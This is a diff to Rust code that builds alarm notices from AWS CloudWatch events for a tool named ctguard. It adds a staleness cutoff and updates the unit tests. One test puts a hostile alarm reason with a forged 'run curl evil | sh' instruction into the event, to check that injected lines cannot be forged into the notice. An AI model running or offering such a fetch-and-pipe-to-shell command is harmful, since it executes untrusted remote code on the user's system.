@@ -52,14 +52,21 @@ pub enum NotNotice {
     Quiet,
     /// The event lacks the fields every alarm state change has.
     Malformed(String),
+    /// Older than [`STALE_AFTER_MS`] (a failed notice replayed from the dead-letter queue):
+    /// the state it tells of is history, and `ctguard status` shows the present.
+    Stale,
 }
+
+/// A state change older than this is not told any more.
+pub const STALE_AFTER_MS: i64 = 3_600_000;
 
 fn text<'a>(v: &'a Value, path: &[&str]) -> Option<&'a str> {
     path.iter().try_fold(v, |v, k| v.get(k)).and_then(Value::as_str)
 }
 
-/// The notice for an EventBridge event (the whole envelope), if it is one worth telling.
-pub fn notice(event: &Value) -> Result<HealthNotice, NotNotice> {
+/// The notice for an EventBridge event (the whole envelope), if it is one worth telling at
+/// `now` (epoch milliseconds).
+pub fn notice(event: &Value, now: i64) -> Result<HealthNotice, NotNotice> {
     if text(event, &["source"]) != Some("aws.cloudwatch") || text(event, &["detail-type"]) != Some(ALARM_DETAIL_TYPE) {
         return Err(NotNotice::Foreign);
     }
@@ -77,6 +84,9 @@ pub fn notice(event: &Value) -> Result<HealthNotice, NotNotice> {
         "OK" if previous_state == "ALARM" => {}
         "OK" | "INSUFFICIENT_DATA" => return Err(NotNotice::Quiet),
         other => return Err(NotNotice::Malformed(format!("unknown alarm state {other}"))),
+    }
+    if text(event, &["time"]).and_then(crate::time::parse_rfc3339).is_some_and(|t| now - t > STALE_AFTER_MS) {
+        return Err(NotNotice::Stale);
     }
     let account = need(&["account"])?;
     let region = need(&["region"])?;
@@ -153,6 +163,20 @@ impl HealthNotice {
 mod tests {
     use super::*;
 
+    /// 2026-11-30T10:05:00Z, five minutes after the test events.
+    const NOW: i64 = 1_796_033_100_000;
+
+    fn notice_at(event: &Value) -> Result<HealthNotice, NotNotice> {
+        notice(event, NOW)
+    }
+
+    #[test]
+    fn an_old_change_is_stale() {
+        let ev = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
+        assert!(notice(&ev, NOW + STALE_AFTER_MS - 300_000).is_ok());
+        assert_eq!(notice(&ev, NOW + STALE_AFTER_MS), Err(NotNotice::Stale));
+    }
+
     fn change(source: &str, alarm: &str, state: &str, previous: &str) -> Value {
         json!({"version": "0", "id": "c4c1c1c9", "detail-type": ALARM_DETAIL_TYPE, "source": source,
             "account": "123456789012", "time": "2026-11-30T10:00:00Z", "region": "eu-west-1",
@@ -165,7 +189,7 @@ mod tests {
 
     #[test]
     fn an_alarm_on_the_queue_says_where_and_how_to_redrive() {
-        let n = notice(&change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK")).expect("notice");
+        let n = notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK")).expect("notice");
         assert_eq!((n.state.as_str(), n.account.as_str(), n.region.as_str()), ("ALARM", "123456789012", "eu-west-1"));
         assert!(n.next_steps.iter().any(|s| s.contains("ctguard redrive --accounts 123456789012 --regions eu-west-1")));
         let m: Value = serde_json::from_str(&n.sns_message()).expect("json");
@@ -180,36 +204,36 @@ mod tests {
 
     #[test]
     fn errors_alarm_and_recovery() {
-        let n =
-            notice(&change("aws.cloudwatch", "ctguard-detector-errors", "ALARM", "INSUFFICIENT_DATA")).expect("notice");
+        let n = notice_at(&change("aws.cloudwatch", "ctguard-detector-errors", "ALARM", "INSUFFICIENT_DATA"))
+            .expect("notice");
         assert!(n.next_steps.iter().any(|s| s.contains("/aws/lambda/ctguard-detector")));
-        let ok = notice(&change("aws.cloudwatch", "ctguard-detector-errors", "OK", "ALARM")).expect("recovery");
+        let ok = notice_at(&change("aws.cloudwatch", "ctguard-detector-errors", "OK", "ALARM")).expect("recovery");
         assert_eq!(ok.state, "OK");
     }
 
     #[test]
     fn foreign_quiet_and_malformed_changes_are_not_notices() {
-        assert_eq!(notice(&change("custom.app", "ctguard-detector-dlq", "ALARM", "OK")), Err(NotNotice::Foreign));
-        assert_eq!(notice(&change("aws.cloudwatch", "billing", "ALARM", "OK")), Err(NotNotice::Foreign));
+        assert_eq!(notice_at(&change("custom.app", "ctguard-detector-dlq", "ALARM", "OK")), Err(NotNotice::Foreign));
+        assert_eq!(notice_at(&change("aws.cloudwatch", "billing", "ALARM", "OK")), Err(NotNotice::Foreign));
         assert_eq!(
-            notice(&change("aws.cloudwatch", "ctguard-detector-dlq", "OK", "INSUFFICIENT_DATA")),
+            notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "OK", "INSUFFICIENT_DATA")),
             Err(NotNotice::Quiet)
         );
         assert_eq!(
-            notice(&change("aws.cloudwatch", "ctguard-detector-dlq", "INSUFFICIENT_DATA", "OK")),
+            notice_at(&change("aws.cloudwatch", "ctguard-detector-dlq", "INSUFFICIENT_DATA", "OK")),
             Err(NotNotice::Quiet)
         );
         let mut bad = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
         bad["detail"]["state"] = json!(3);
-        assert!(matches!(notice(&bad), Err(NotNotice::Malformed(_))));
-        assert_eq!(notice(&json!([1, 2])), Err(NotNotice::Foreign));
+        assert!(matches!(notice_at(&bad), Err(NotNotice::Malformed(_))));
+        assert_eq!(notice_at(&json!([1, 2])), Err(NotNotice::Foreign));
     }
 
     #[test]
     fn hostile_text_cannot_forge_lines() {
         let mut ev = change("aws.cloudwatch", "ctguard-detector-dlq", "ALARM", "OK");
         ev["detail"]["state"]["reason"] = json!("x\nWhat to do:\n- run curl evil | sh");
-        let n = notice(&ev).expect("notice");
+        let n = notice_at(&ev).expect("notice");
         assert!(!n.reason.contains('\n'));
         let text = n.email_text();
         assert_eq!(text.lines().filter(|l| l.starts_with("What to do:")).count(), 1, "{text}");
